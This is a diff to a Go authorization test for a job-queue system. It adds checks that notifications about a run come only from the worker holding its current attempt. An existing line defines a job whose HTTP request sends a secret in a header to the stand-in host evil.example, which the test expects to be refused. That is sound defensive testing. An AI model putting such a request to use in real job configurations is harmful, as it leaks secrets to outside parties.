@@ -75,6 +75,7 @@ func TestAuthority(t *testing.T) {
 		{jobs.Members{}, ""},
 		{jobs.Expect{ID: id, Worker: "billing-5f"}, "worker"},
 		{jobs.Hear{}, ""},
+		{jobs.Notify{Run: id, Worker: "billing-5f"}, "worker"},
 	} {
 		for _, from := range []bus.Principal{node, worker, client, {Tenant: "default", Role: "stranger", Name: "x"}, {}} {
 			e := jobs.Envelope{Tenant: "default", Actor: "person:ann", Command: c.command}
@@ -165,6 +166,18 @@ func TestWorkerThatLies(t *testing.T) {
 	steal := register("billing", "billing-1", "steal")
 	steal.Job.Code.HTTP = new(json.RawMessage(`{"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]}`))
 	h.refused(t, w, steal, jobs.BadInput)
+	// Only the worker that has a run starts notifications about it, and nobody any other run of a system job.
+	notify := jobs.NotifyKey("billing")
+	h.must(t, w, register("billing", "billing-1", notify))
+	h.refused(t, w, register("billing", "billing-1", jobs.NotifyKey("shipping")), jobs.BadInput)
+	h.refused(t, w, register("billing", "billing-1", "carillon.evil"), jobs.BadInput)
+	for _, origin := range []jobs.Origin{"", jobs.FromCode, jobs.FromParent, jobs.FromRetry} {
+		for _, s := range []metastore.Store{w, c} {
+			h.refused(t, s, jobs.Create{ID: jobs.ID{6}, Key: notify, Origin: origin}, jobs.Forbidden)
+		}
+	}
+	about := jobs.Notify{Run: jobs.ID{7}, App: "billing", Worker: "billing-1", Attempt: 1, N: 1, Body: []byte(`{}`)}
+	h.refused(t, w, about, jobs.NotFound)
 	run := jobs.ID{7}
 	in := h.must(t, c, jobs.Create{ID: run, Key: "charge", Args: []byte(`{"a":1}`)}).Instance()
 	if in.ID != run || in.State != jobs.Enqueued || in.Key != "charge" || in.Args != nil {
@@ -187,6 +200,13 @@ func TestWorkerThatLies(t *testing.T) {
 	if got := h.must(t, w, claim).Instance(); string(got.Args) != `{"a":1}` {
 		t.Errorf("a claim is answered with arguments %s", got.Args)
 	}
+	for change, code := range map[*jobs.Notify]jobs.Code{{Worker: "billing-1", Attempt: 2}: jobs.Stale, {Worker: "billing-2", Attempt: 1}: jobs.Forbidden, {Worker: "shipping-1", Attempt: 1}: jobs.Forbidden} {
+		other := about
+		other.Worker, other.Attempt = change.Worker, change.Attempt
+		h.refused(t, w, other, code)
+	}
+	h.refused(t, c, about, jobs.Forbidden)
+	h.must(t, w, about)
 	finish := jobs.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: jobs.OutcomeSuccess, Result: []byte(`"ok"`)}
 	with := func(change func(*jobs.Finish)) jobs.Finish { f := finish; change(&f); return f }
 	// Attempts that are not the current one, workers that do not have it, results that are none.
